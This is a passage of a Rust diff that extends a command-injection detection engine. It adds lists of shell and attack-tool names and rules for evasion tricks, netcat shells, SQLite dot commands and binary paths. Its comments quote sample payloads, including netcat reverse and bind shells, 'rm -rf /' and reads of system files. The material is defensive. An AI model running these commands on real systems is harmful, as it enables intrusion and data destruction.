@@ -10,14 +10,14 @@
 use super::anchor::{longest_piece, Anchors};
 use super::wordset::WordSet;
 use super::{
-    Lowered, Rule, RCE_CHAINED_COMMAND, RCE_SHELL_EVASION, RCE_SHELL_INVOCATION, RCE_SUBSTITUTION,
-    RCE_WINDOWS,
+    Lowered, Rule, RCE_CHAINED_COMMAND, RCE_COMMAND_LINE, RCE_SHELL_EVASION, RCE_SHELL_EXPANSION,
+    RCE_SHELL_INVOCATION, RCE_SUBSTITUTION, RCE_WINDOWS,
 };
 use std::borrow::Cow;
 
 /// Commands an injected payload runs that are not English words: matched at any command
 /// position.
-const COMMANDS: [&str; 143] = [
+const COMMANDS: [&str; 261] = [
     "whoami",
     "uname",
     "wget",
@@ -161,6 +161,125 @@ const COMMANDS: [&str; 143] = [
     "bcdboot",
     "ssh-copy-id",
     "bsdtar",
+    // System administration and attack tools (names no sentence uses).
+    "lsblk",
+    "lscpu",
+    "lsmod",
+    "lspci",
+    "lsusb",
+    "lsattr",
+    "journalctl",
+    "userdel",
+    "groupdel",
+    "getent",
+    "sysctl",
+    "iptables",
+    "ip6tables",
+    "modprobe",
+    "insmod",
+    "rmmod",
+    "dpkg",
+    "apt-get",
+    "apt-cache",
+    "javac",
+    "rustc",
+    "sshpass",
+    "proxychains",
+    "msfconsole",
+    "msfvenom",
+    "sqlmap",
+    "nikto",
+    "masscan",
+    "tshark",
+    "ifup",
+    "ifdown",
+    "iwconfig",
+    "traceroute",
+    "getfacl",
+    "setcap",
+    "getcap",
+    "pkexec",
+    "runuser",
+    "md5sum",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "cksum",
+    "gpg",
+    "ssh-keygen",
+    "ssh-keyscan",
+    "lynx",
+    "w3m",
+    "elinks",
+    "lwp-request",
+    "pydoc",
+    "jshell",
+    "tclsh",
+    "runghc",
+    "rscript",
+    "byobu",
+    "setsid",
+    "atq",
+    "atrm",
+    "chkconfig",
+    "update-rc.d",
+    "telinit",
+    "poweroff",
+    "kexec",
+    "fuser",
+    "pidof",
+    "pgrep",
+    "renice",
+    "chrt",
+    "ulimit",
+    "umask",
+    "mktemp",
+    "shred",
+    "fallocate",
+    "losetup",
+    "mkfs",
+    "fdisk",
+    "blkid",
+    "umount",
+    "swapon",
+    "xclip",
+    "xsel",
+    "xdotool",
+    "ping6",
+    "arping",
+    "hping3",
+    "ngrep",
+    "iftop",
+    "nethogs",
+    "ethtool",
+    "iwlist",
+    "hostnamectl",
+    "timedatectl",
+    "loginctl",
+    "adduser",
+    "deluser",
+    "addgroup",
+    "chpasswd",
+    "chsh",
+    "lsb_release",
+    "nproc",
+    "getconf",
+    "zgrep",
+    "xzcat",
+    "unxz",
+    "unrar",
+    "7za",
+    "zstd",
+    "objdump",
+    "readelf",
+    "ldd",
+    "lldb",
+    "podman",
+    "crictl",
+    "virsh",
+    "vagrant",
+    "terraform",
+    "gcloud",
 ];
 
 /// Commands that are also subjects of ordinary text (languages, well-known tools, names).
@@ -200,10 +319,19 @@ fn is_command(name: &str) -> bool {
 
 /// Commands that are also English words (`head`, `sleep`, `cat`): matched only when what
 /// follows looks like shell arguments (an option, a path, a number, a variable) or nothing.
-const WORD_COMMANDS: [&str; 22] = [
+const WORD_COMMANDS: [&str; 23] = [
     "cat", "tac", "head", "tail", "more", "less", "find", "host", "sleep", "touch", "kill", "env",
-    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv",
+    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv", "ll",
 ];
+
+/// Commands that are English words or names too (`date`, `column`, `sort`): matched only
+/// with an option after them (`;date --file x`, `| sort -u`).
+const OPTION_COMMANDS: [&str; 22] = [
+    "date", "column", "fold", "comm", "cut", "sort", "uniq", "wc", "diff", "od", "strings",
+    "paste", "file", "stat", "du", "df", "who", "uptime", "free", "echo", "ln", "mkdir",
+];
+
+static OPTION_COMMAND_SET: WordSet = WordSet::new(&OPTION_COMMANDS);
 
 /// Interpreters and tools that, invoked with these flags, run arbitrary code or open a shell.
 const INVOCATIONS: [&str; 12] = [
@@ -222,7 +350,7 @@ const INVOCATIONS: [&str; 12] = [
 ];
 
 /// Windows shell syntax.
-const WINDOWS: [&str; 16] = [
+const WINDOWS: [&str; 20] = [
     "cmd /c",
     "cmd.exe",
     "cmd /k",
@@ -239,6 +367,12 @@ const WINDOWS: [&str; 16] = [
     "wmic ",
     "for /f",
     "rundll32",
+    // PowerShell's WMI cmdlets by their aliases (`iwmi -class Win32_Process -name Create`).
+    "iwmi ",
+    "gwmi ",
+    "invoke-wmimethod",
+    // The registry editor with a switch (`regedit /e file key`, `regedit /s x.reg`).
+    "regedit /",
 ];
 
 /// The command-injection rules that match a decoded value.
@@ -255,16 +389,25 @@ pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
     if text.contains(['(', '`']) && has_substitution(text) {
         out.push(RCE_SUBSTITUTION);
     }
-    if command_positions(text)
-        .into_iter()
-        .any(|start| names_command(text.get(start..).unwrap_or_default()))
+    let positions = command_positions(text);
+    if positions
+        .iter()
+        .any(|&start| names_command(text.get(start..).unwrap_or_default()))
         || starts_with_command_and_option(text)
+        || runs_assigned_variable(text, &positions)
+        || (text.contains('.') && has_sqlite_dot_command(text, &positions))
+        || (text.contains("bin/") && runs_binary_path(text))
     {
         out.push(RCE_CHAINED_COMMAND);
     }
     // Every evasion needs one of these: a glob's `[`, `$` (`$IFS`, `$((`, `$[`, `$@`, `$9`),
-    // a brace expansion's `{`, or a quote or backslash inside a word.
-    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(text, prechecks) {
+    // a brace expansion's `{`, a quote or backslash inside a word, or an empty substitution
+    // (two backticks, or `()` in `$()`, `<()`, `>()`), or a wildcard path's `?`.
+    if (!prechecks
+        || text.contains(['[', '$', '{', '\'', '"', '\\', '`', '?'])
+        || text.contains("()"))
+        && has_shell_evasion(text, prechecks)
+    {
         out.push(RCE_SHELL_EVASION);
     }
     // Squeezing only turns blank runs into one blank: a piece without blanks found in the
@@ -282,7 +425,9 @@ pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
     }
     let squeezed = squeeze_spaces(text);
     if invocation_possible
-        && (INVOCATIONS.iter().any(|i| squeezed.contains(i)) || has_fork_bomb(&squeezed))
+        && (INVOCATIONS.iter().any(|i| squeezed.contains(i))
+            || has_fork_bomb(&squeezed)
+            || has_netcat_exec(&squeezed))
     {
         out.push(RCE_SHELL_INVOCATION);
     }
@@ -295,6 +440,398 @@ pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
         out.push(RCE_WINDOWS);
     }
     out
+}
+
+/// A variable run as a command after the value set it: `garb=adduse[r];$garb pizza`,
+/// `a=nc&&$a -nlvp 555` (prose does not assign a name and then put `$name` where a command
+/// starts).
+fn runs_assigned_variable(text: &str, positions: &[usize]) -> bool {
+    // The names assigned (`name=` where a word starts), at most a few, found in one pass.
+    const MOST: usize = 16;
+    let mut assigned: Vec<(usize, &str)> = Vec::new();
+    for (i, _) in text.match_indices('=') {
+        let before = text.get(..i).unwrap_or_default();
+        let name = before
+            .get(
+                before
+                    .trim_end_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                    .len()..,
+            )
+            .unwrap_or_default();
+        // A command or a path is assigned (`a=nc`, `p=/bin/sh`, `c='id'`), not a number.
+        let value = text.get(i + 1..).unwrap_or_default();
+        if name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && value.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '\'' | '"'))
+        {
+            assigned.push((i, name));
+            if assigned.len() == MOST {
+                break;
+            }
+        }
+    }
+    if assigned.is_empty() {
+        return false;
+    }
+    positions.iter().any(|&start| {
+        let rest = text
+            .get(start..)
+            .unwrap_or_default()
+            .trim_start_matches([' ', '\t']);
+        let word = rest.get(..word_end(rest)).unwrap_or_default();
+        if only_expansions(word) != Some(1) {
+            return false;
+        }
+        let name = word
+            .trim_start_matches('$')
+            .trim_start_matches('{')
+            .trim_end_matches('}');
+        assigned.iter().any(|&(at, n)| at < start && n == name)
+    })
+}
+
+/// SQLite shell dot commands where an injected line starts: `;\n.databases`,
+/// `1;.\"shell whoami` (`.shell` and `.system` run a command; the others read or write
+/// the database's files). A line break written as `\n` counts, since it is one to SQLite's
+/// input. A sentence does not start with `.tables` after a `;`.
+fn has_sqlite_dot_command(text: &str, positions: &[usize]) -> bool {
+    const DOT_COMMANDS: [&str; 19] = [
+        "shell",
+        "system",
+        "databases",
+        "tables",
+        "schema",
+        "fullschema",
+        "dump",
+        "import",
+        "output",
+        "once",
+        "load",
+        "open",
+        "read",
+        "backup",
+        "restore",
+        "clone",
+        "dbinfo",
+        "indexes",
+        "excel",
+    ];
+    positions
+        .iter()
+        .filter(|&&p| p > 0 && matches!(text.as_bytes().get(p - 1), Some(b';' | b'\n' | b'\r')))
+        .any(|&p| {
+            let mut rest = text.get(p..).unwrap_or_default();
+            loop {
+                let trimmed = rest
+                    .trim_start_matches([' ', '\t', '\n', '\r'])
+                    .trim_start_matches("\\n")
+                    .trim_start_matches("\\r");
+                if trimmed.len() == rest.len() {
+                    break;
+                }
+                rest = trimmed;
+            }
+            let Some(command) = rest.strip_prefix('.') else {
+                return false;
+            };
+            let command = command.trim_start_matches(['"', '\'', '\\']);
+            let name_len = command.len()
+                - command
+                    .trim_start_matches(|c: char| c.is_ascii_lowercase())
+                    .len();
+            let name = command.get(..name_len).unwrap_or_default();
+            DOT_COMMANDS.contains(&name)
+                && command.get(name_len..).is_none_or(|r| {
+                    r.is_empty() || r.starts_with([' ', '\t', '\n', '\r', '"', '\'', '\\', ';'])
+                })
+        })
+}
+
+/// A program run by its path in a `bin` directory: `/bin/cat`, `/usr/sbin/visudo`,
+/// `bin/chef` where a value starts. Only known commands: `/bin/ab` is left to
+/// [`detect_level2`].
+fn runs_binary_path(text: &str) -> bool {
+    text.match_indices("bin/").any(|(i, _)| {
+        let before = text.get(..i).unwrap_or_default();
+        let before = before.strip_suffix('s').unwrap_or(before);
+        if !(before.is_empty() || before.ends_with('/')) {
+            return false;
+        }
+        let rest = text.get(i + 4..).unwrap_or_default();
+        let end = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
+            .unwrap_or(rest.len());
+        let name = rest.get(..end).unwrap_or_default();
+        let after = rest.get(end..).unwrap_or_default();
+        after.chars().next().is_none_or(|c| {
+            c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | ')' | '`')
+        }) && (is_command(name)
+            || WORD_COMMAND_SET.contains(name)
+            || OPTION_COMMAND_SET.contains(name))
+    })
+}
+
+/// Netcat handing a shell to the network with options between: `nc 10.0.0.1 6666 -e sh`,
+/// `ncat -lvp 4444 -e /bin/bash` (`nc -e` right after the name is in [`INVOCATIONS`]).
+fn has_netcat_exec(squeezed: &str) -> bool {
+    ["nc ", "ncat ", "netcat "].iter().any(|tool| {
+        squeezed.match_indices(tool).any(|(i, _)| {
+            let starts_word = squeezed
+                .get(..i)
+                .and_then(|b| b.chars().last())
+                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'));
+            // (A command line is short: no more than 256 bytes of it are read, which keeps a
+            // value of many `nc ` linear.)
+            let line = squeezed.get(i + tool.len()..).unwrap_or_default();
+            let mut cut = line.len().min(256);
+            while !line.is_char_boundary(cut) {
+                cut -= 1;
+            }
+            let line = line
+                .get(..cut)
+                .unwrap_or_default()
+                .split([';', '|', '&', '\n'])
+                .next()
+                .unwrap_or_default();
+            starts_word
+                && line.match_indices("-e ").any(|(e, _)| {
+                    let program = line
+                        .get(e + 3..)
+                        .unwrap_or_default()
+                        .split([' ', '\'', '"'])
+                        .next()
+                        .unwrap_or_default();
+                    let is_shell = |p: &str| {
+                        matches!(
+                            p,
+                            "sh" | "bash"
+                                | "zsh"
+                                | "ksh"
+                                | "dash"
+                                | "cmd"
+                                | "cmd.exe"
+                                | "powershell"
+                        )
+                    };
+                    // `c:\windows\system32\cmd.exe`, and `sh\n` with a line break written out.
+                    is_shell(program.rsplit(['/', '\\']).next().unwrap_or(program))
+                        || is_shell(
+                            program
+                                .split('\\')
+                                .next()
+                                .and_then(|p| p.rsplit('/').next())
+                                .unwrap_or(program),
+                        )
+                })
+        })
+    })
+}
+
+/// Commands (of [`COMMANDS`], three letters or more) that are also words, names or settings a
+/// value may start with (`curl` of hair, `gzip` as a compression setting, `xterm` as a
+/// terminal type), or names of form fields: [`starts_with_command_name`] leaves them out.
+const PROSE_COMMANDS: [&str; 36] = [
+    "expect", "split", "rev", "gem", "rake", "perf", "tar", "dash", "flock", "reboot", "shutdown",
+    "hostname", "curl", "base64", "base32", "gzip", "bzip2", "unzip", "rsync", "openssl", "ssh",
+    "scp", "sftp", "ftp", "tftp", "telnet", "xterm", "aptitude", "pwd", "pip", "nodejs", "node",
+    "tac", "mawk",
+    // Field names: a form's `uname=…` has the name as a value of its own.
+    "uname", "passwd",
+];
+
+static PROSE_COMMAND_SET: WordSet = WordSet::new(&PROSE_COMMANDS);
+
+/// The paranoia-2 command-injection rules: shell forms that prose, code or settings also
+/// have. `whole_values`: the value is one (a field, a header), not a URL path, so that what it
+/// starts with is what a program would get. Runs on plain text too (`visudo`, `ansible-doc
+/// plugin ping` are plain), before the plain shortcut; `prechecks` off only to check that
+/// they change nothing.
+pub fn detect_level2(decoded: &[u8], whole_values: bool, prechecks: bool) -> Vec<Rule> {
+    let mut out = Vec::new();
+    if whole_values && starts_with_command_name(decoded) {
+        out.push(RCE_COMMAND_LINE);
+    }
+    // Every expansion below holds one of these: `{` (of `${` too), `~` (before `+` or `-`),
+    // `!-`, `bin/`.
+    let possible = !prechecks
+        || decoded.windows(2).any(|w| w == b"!-")
+        || decoded.contains(&b'{')
+        || decoded.contains(&b'~')
+        || decoded.windows(4).any(|w| w.eq_ignore_ascii_case(b"bin/"));
+    if possible {
+        let text = String::from_utf8_lossy(decoded).to_ascii_lowercase();
+        if has_parameter_expansion(&text)
+            || has_any_brace_expansion(&text)
+            || has_directory_stack(&text)
+            || has_history_expansion(&text)
+            || runs_any_binary_path(&text)
+        {
+            out.push(RCE_SHELL_EXPANSION);
+        }
+    }
+    out
+}
+
+/// A value that starts with a known command (`whoami;…`, `visudo`, `chef-shell`,
+/// `cscli alerts list`, `pip3 install x`), other than two-letter ones (`id`, `ls`), tools
+/// people write about ([`TOPICS`]) and [`PROSE_COMMANDS`]. An article about `nmap` starting
+/// with its name is flagged: the price of level 2.
+fn starts_with_command_name(decoded: &[u8]) -> bool {
+    let start = decoded
+        .iter()
+        .position(|b| !matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b'\'' | b'"'))
+        .unwrap_or(decoded.len());
+    let rest = decoded.get(start..).unwrap_or_default();
+    // A command name is short: a longer first word is no command, and reading it stops there.
+    let end = rest
+        .iter()
+        .take(48)
+        .position(|b| {
+            b.is_ascii_whitespace()
+                || matches!(b, b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b'`' | b',')
+        })
+        .unwrap_or(rest.len().min(48));
+    let Some(word) = rest.get(..end) else {
+        return false;
+    };
+    if end == 48 || !word.iter().any(u8::is_ascii_alphabetic) {
+        return false;
+    }
+    let word = String::from_utf8_lossy(word).to_ascii_lowercase();
+    let word = shell_word(&word);
+    let name = word.rsplit('/').next().unwrap_or(&word);
+    let known = |name: &str| {
+        name.len() >= 3
+            && is_command(name)
+            && !TOPIC_SET.contains(name)
+            && !PROSE_COMMAND_SET.contains(name)
+    };
+    known(name) || known(without_version(name))
+}
+
+/// `${name}` or `${name…}` with an operator (`${cmd}`, `${x#{}}`, `${path:-/bin}`): a shell's
+/// parameter expansion, and a template's placeholder too.
+fn has_parameter_expansion(text: &str) -> bool {
+    text.match_indices("${").any(|(i, _)| {
+        let rest = text.get(i + 2..).unwrap_or_default();
+        let name = rest.len()
+            - rest
+                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                .len();
+        rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && rest
+                .get(name..)
+                .is_some_and(|r| r.starts_with(['}', ':', '#', '%', '/', '^', ',', '@']))
+    })
+}
+
+/// Any brace expansion, whatever it makes: a list `{a,b}`, `{,x}` or a sequence `{1..9}`,
+/// `{a..z}`, with no blank, quote or colon inside (JSON objects and templates have them;
+/// set notation in prose has not: level 2), and not a regular expression's quantifier.
+fn has_any_brace_expansion(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    text.match_indices('{').any(|(i, _)| {
+        // (Short: at most 64 bytes are read after each `{`.)
+        let rest = bytes.get(i + 1..).unwrap_or_default();
+        let Some(end) = rest.iter().take(64).position(|&b| {
+            b == b'}' || b == b'{' || b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b':')
+        }) else {
+            return false;
+        };
+        if rest.get(end) != Some(&b'}') || end == 0 {
+            return false;
+        }
+        let inner = text.get(i + 1..i + 1 + end).unwrap_or_default();
+        let sequence = inner.split_once("..").is_some_and(|(a, b)| {
+            let end_ok = |s: &str| {
+                s.bytes().all(|c| c.is_ascii_digit()) && !s.is_empty()
+                    || (s.len() == 1 && s.bytes().all(|c| c.is_ascii_alphabetic()))
+            };
+            end_ok(a) && end_ok(b)
+        });
+        // A regular expression's quantifier (`[a-z]{1,5}`, `x{2,}`) is digits around one
+        // comma: not read as a list.
+        let quantifier = inner.matches(',').count() == 1
+            && inner.bytes().all(|c| c.is_ascii_digit() || c == b',');
+        sequence || (inner.contains(',') && !quantifier)
+    })
+}
+
+/// The directory stack by tilde: `~+`, `~-`, `~+2`, `~-1` as a word (`~0` and `~5` are
+/// "about" in prose, and left alone).
+fn has_directory_stack(text: &str) -> bool {
+    text.match_indices('~').any(|(i, _)| {
+        let starts_word = text
+            .get(..i)
+            .and_then(|b| b.chars().last())
+            .is_none_or(|c| {
+                c.is_ascii_whitespace()
+                    || matches!(c, ';' | '|' | '&' | '=' | '(' | '`' | '\'' | '"')
+            });
+        let rest = text.get(i + 1..).unwrap_or_default();
+        let Some(after_sign) = rest.strip_prefix(['+', '-']) else {
+            return false;
+        };
+        let after = after_sign.trim_start_matches(|c: char| c.is_ascii_digit());
+        starts_word
+            && after.chars().next().is_none_or(|c| {
+                c.is_ascii_whitespace()
+                    || matches!(c, '/' | ';' | '|' | '&' | ')' | '`' | '\'' | '"')
+            })
+    })
+}
+
+/// History expansion by a negative event number: `!-1`, `!-2:p` (`!!` is prose's emphasis).
+fn has_history_expansion(text: &str) -> bool {
+    text.match_indices("!-").any(|(i, _)| {
+        let starts_word = text
+            .get(..i)
+            .and_then(|b| b.chars().last())
+            .is_none_or(|c| {
+                c.is_ascii_whitespace()
+                    || matches!(c, ';' | '|' | '&' | '=' | '!' | '`' | '\'' | '"' | '(')
+            });
+        starts_word
+            && text
+                .get(i + 2..)
+                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()))
+    })
+}
+
+/// Any program by its path in a `bin` directory where a word starts: `/bin/ab`,
+/// `/usr/sbin/anything` ([`runs_binary_path`] covers known commands at level 1).
+fn runs_any_binary_path(text: &str) -> bool {
+    text.match_indices("bin/").any(|(i, _)| {
+        // The system directories are short: only the 32 bytes before `bin/` are read (a
+        // value of many `bin/` stays linear).
+        let mut from = i.saturating_sub(32);
+        while !text.is_char_boundary(from) {
+            from += 1;
+        }
+        let before = text.get(from..i).unwrap_or_default();
+        let before = before.strip_suffix('s').unwrap_or(before);
+        let dir_start = before
+            .rfind(|c: char| {
+                c.is_ascii_whitespace()
+                    || matches!(c, ';' | '|' | '&' | '=' | '\'' | '"' | '`' | '(')
+            })
+            .map_or(0, |p| p + 1);
+        let dirs = before.get(dir_start..).unwrap_or_default();
+        // `bin/` where a word starts, or after system directories only: `/bin/`, `/usr/bin/`,
+        // `/usr/local/sbin/` (not `/recycle/bin/`, `/trash-bin/`).
+        let system = matches!(dirs, "" | "/" | "/usr/" | "/usr/local/" | "/opt/local/");
+        let rest = text.get(i + 4..).unwrap_or_default();
+        let end = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
+            .unwrap_or(rest.len());
+        system
+            && end > 0
+            && rest
+                .get(end..)
+                .and_then(|r| r.chars().next())
+                .is_none_or(|c| {
+                    c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | ')' | '`')
+                })
+    })
 }
 
 /// A piece of each [`WINDOWS`] phrase (the longest between blanks), and `if` and `for`,
@@ -329,30 +866,142 @@ fn command_positions(text: &str) -> Vec<usize> {
 /// Whether the word at the start of `rest` (after blanks, quotes, redirections) names a known
 /// command once de-obfuscated. A path prefix is allowed: `/bin/cat`, `/usr/bin/id`.
 fn names_command(rest: &str) -> bool {
-    let rest = rest.trim_start_matches(|c: char| {
+    names_command_at(rest, false)
+}
+
+/// [`names_command`]; `behind_expansion`: the word follows a variable at the command
+/// position (`$u wget x`, `;$a cat notes.txt`), where a word command needs no shell-like
+/// arguments to be one (a sentence does not put `$a` before its verb).
+fn names_command_at(rest: &str, behind_expansion: bool) -> bool {
+    let mut rest = rest.trim_start_matches(|c: char| {
         c.is_ascii_whitespace() || matches!(c, '&' | '|' | ';' | '(' | '{' | '!' | '<' | '>')
     });
-    let end = rest
-        .find(|c: char| {
-            c.is_ascii_whitespace()
-                || matches!(c, ';' | '|' | '&' | '<' | '>' | ')' | '}' | ',' | '`')
-        })
-        .unwrap_or(rest.len());
-    let word = without_quotes(rest.get(..end).unwrap_or_default());
+    // `. file`, the shell's `source`, runs what follows it: `;. rm -rf /`.
+    while let Some(sourced) = rest.strip_prefix(". ") {
+        rest = sourced.trim_start_matches([' ', '\t']);
+    }
+    let end = word_end(rest);
+    let raw_word = rest.get(..end).unwrap_or_default();
+    let args = rest.get(end..).unwrap_or_default();
+    // A word of variables only: `$c1$c2$c3` builds the command from pieces set before;
+    // `$a -nlvp 555` and `$u wget x` run an option or a command behind a variable.
+    if let Some(count) = only_expansions(raw_word) {
+        let after = args.trim_start_matches([' ', '\t']);
+        return count >= 2
+            || is_option(after)
+            || (!behind_expansion && names_command_at(after, true));
+    }
+    let word = without_quotes(raw_word);
     let word = word.trim_start_matches('$');
     let name = word.rsplit('/').next().unwrap_or(word);
     let name = name.split(['$', '{']).next().unwrap_or(name);
+    if command_with_arguments(name, args, behind_expansion) {
+        return true;
+    }
+    // The same word with its evasions undone (`n$u\c$u`, `${x}gcc7.4`) and a version
+    // glued to the name dropped (`gcc10.1`, `python3.8`).
+    let cleaned = shell_word(raw_word);
+    let cleaned_name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
+    (cleaned_name != name && command_with_arguments(cleaned_name, args, behind_expansion))
+        || without_version(cleaned_name) != cleaned_name
+            && is_command(without_version(cleaned_name))
+}
+
+/// Where the word at the start of `rest` ends: at a blank, a separator, a redirection, a
+/// closing `)` or `}` or a comma (of a brace expansion). A `${…}` inside the word is part of
+/// it (`${x}gcc`), and so is an empty substitution glued into it (`ping$()`, `pi<()ng`,
+/// two backticks), which [`shell_word`] drops.
+fn word_end(rest: &str) -> usize {
+    let bytes = rest.as_bytes();
+    // The next `}` at or after where it was last looked for (`None`: none within reach): the
+    // bytes are searched once, not once per `${`.
+    let mut close: Option<Option<usize>> = None;
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        // A command word is short: reading no further than [`WORD_REACH`] keeps a value of
+        // many command positions (a run of backticks) linear. (Cut at a character boundary.)
+        if i >= WORD_REACH && rest.is_char_boundary(i) {
+            return i;
+        }
+        let next = bytes.get(i + 1).copied();
+        if b == b'$' && next == Some(b'{') {
+            if close.is_none_or(|c| c.is_some_and(|c| c < i)) {
+                let reach = bytes
+                    .get(i..bytes.len().min(WORD_REACH + 4))
+                    .unwrap_or_default();
+                close = Some(reach.iter().position(|&c| c == b'}').map(|p| i + p));
+            }
+            match close {
+                Some(Some(c)) => {
+                    i = c + 1;
+                    continue;
+                }
+                // An expansion never closed is no part of a command word (a shell refuses it).
+                _ => return i,
+            }
+        }
+        // (Glued into a word only: where a word would start, a backtick still ends it, and a
+        // run of backticks costs nothing per position.)
+        if i > 0 && b == b'`' && next == Some(b'`') {
+            i += 2;
+            continue;
+        }
+        if i > 0
+            && matches!(b, b'$' | b'<' | b'>')
+            && next == Some(b'(')
+            && bytes.get(i + 2) == Some(&b')')
+        {
+            i += 3;
+            continue;
+        }
+        if b.is_ascii_whitespace()
+            || matches!(
+                b,
+                b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'}' | b',' | b'`'
+            )
+        {
+            return i;
+        }
+        i += 1;
+    }
+    bytes.len()
+}
+
+/// An option where a command's arguments start: `-a`, `-nlvp`, `--file` (`-` alone, `-5`
+/// and a dash before a word of prose, `-rated`, are not).
+fn is_option(args: &str) -> bool {
+    let word = args
+        .split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '='))
+        .next()
+        .unwrap_or_default();
+    if let Some(long) = word.strip_prefix("--") {
+        return long.starts_with(|c: char| c.is_ascii_alphabetic());
+    }
+    word.strip_prefix('-').is_some_and(|short| {
+        (1..=4).contains(&short.len()) && short.bytes().all(|b| b.is_ascii_alphabetic())
+    })
+}
+
+/// Whether `name` with `args` after it is a command: a known command, or a word command
+/// whose arguments are a shell's.
+fn command_with_arguments(name: &str, args: &str, behind_expansion: bool) -> bool {
     if name.is_empty() {
         return false;
     }
     if is_command(name) {
         return true;
     }
-    let args = rest.get(end..).unwrap_or_default();
-    // `alias x=…` defines a command to run later.
+    // `alias [-p] [+m] x=…` defines a command to run later.
     if name == "alias" {
-        let arg = args.trim_start();
-        return arg.starts_with("-p") || arg.split(' ').next().is_some_and(|a| a.contains('='));
+        let mut words = args.split_whitespace();
+        let first = words.next().unwrap_or_default();
+        // (A few options at most: a value of many `-x` words is not read to its end.)
+        return first.starts_with("-p")
+            || std::iter::once(first)
+                .chain(words)
+                .take(8)
+                .find(|w| !w.starts_with(['-', '+']))
+                .is_some_and(|a| a.contains('='));
     }
     // cmd.exe's `cat`, and an instruction word ("type 'yes' here"): only reading a file named
     // by a batch variable or a drive (`type %SystemDrive%\boot.ini`, `type c:\x`).
@@ -362,7 +1011,110 @@ fn names_command(rest: &str) -> bool {
             || (arg.first().is_some_and(u8::is_ascii_alphabetic)
                 && arg.get(1..3) == Some(b":\\".as_slice()));
     }
-    WORD_COMMAND_SET.contains(name) && shell_like_arguments(args)
+    if name == "cd" {
+        return changes_directory(args);
+    }
+    if OPTION_COMMAND_SET.contains(name) {
+        return is_option(args.trim_start_matches([' ', '\t']));
+    }
+    WORD_COMMAND_SET.contains(name) && (behind_expansion || shell_like_arguments(args))
+}
+
+/// `cd`'s arguments in a command line: `..`, or a path (`/x`, `~`, `-`, `$HOME`) and then the
+/// end of the value or the next command (`cd /;cd etc`, `cd ~ && …`). A disc ("CD /DVD
+/// combo", "CD 2", "CD ~ 10 dollars") does not go on with a separator right after a path.
+fn changes_directory(args: &str) -> bool {
+    let arg = args.trim_start_matches([' ', '\t']);
+    let path_end = arg
+        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
+        .unwrap_or(arg.len());
+    let path = arg.get(..path_end).unwrap_or_default();
+    let after = arg.get(path_end..).unwrap_or_default();
+    let next_command = after.is_empty() || after.starts_with([';', '|', '&', '\n', '\r']);
+    matches!(path, ".." | "../") || (path.starts_with(['/', '$', '~', '-']) && next_command)
+}
+
+/// `word` as a shell runs it when its variables are unset: quotes and backslashes removed,
+/// `${…}` and one-character expansions (`$u`, `$@`, `$*`, `$_`, `$9`, `$$`) dropped, and
+/// empty substitutions (two backticks, `$()`, `<()`, `>()`) dropped: `n$u\c$u` is `nc`,
+/// `ping$()` is `ping`, `c$*at` is `cat`. (A real shell reads `$uat` as one variable; an
+/// evasion puts the `$x` where the next byte ends the name, and the filters it evades drop
+/// `$` and one byte, so that reading is the one to undo.) Borrowed when there is nothing to
+/// remove, as in most words.
+fn shell_word(word: &str) -> Cow<'_, str> {
+    if !word.contains(['\'', '"', '\\', '$', '`', '(']) {
+        return Cow::Borrowed(word);
+    }
+    let bytes = word.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        let next = bytes.get(i + 1).copied();
+        let after = bytes.get(i + 2).copied();
+        match b {
+            b'\'' | b'"' | b'\\' => i += 1,
+            b'`' if next == Some(b'`') => i += 2,
+            b'$' | b'<' | b'>' if next == Some(b'(') && after == Some(b')') => i += 3,
+            b'$' if next == Some(b'{') => {
+                let close = bytes
+                    .get(i + 2..)
+                    .and_then(|r| r.iter().position(|&c| c == b'}'));
+                i = close.map_or(bytes.len(), |c| i + 3 + c);
+            }
+            b'$' if next.is_some_and(|c| {
+                c.is_ascii_alphanumeric()
+                    || matches!(c, b'@' | b'*' | b'#' | b'?' | b'-' | b'$' | b'!' | b'_')
+            }) =>
+            {
+                i += 2
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    // Only ASCII bytes were removed, whole: the rest is still UTF-8.
+    Cow::Owned(String::from_utf8(out).unwrap_or_default())
+}
+
+/// How many expansions `word` is made of, if it is nothing else (`$a`, `${u}`,
+/// `$c1$c2$c3`), read as the shell reads names (`$garb` is one variable).
+fn only_expansions(word: &str) -> Option<usize> {
+    let mut rest = word;
+    let mut count = 0;
+    while let Some(after) = rest.strip_prefix('$') {
+        rest = if let Some(inner) = after.strip_prefix('{') {
+            inner.split_once('}')?.1
+        } else {
+            let name = after.len()
+                - after
+                    .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
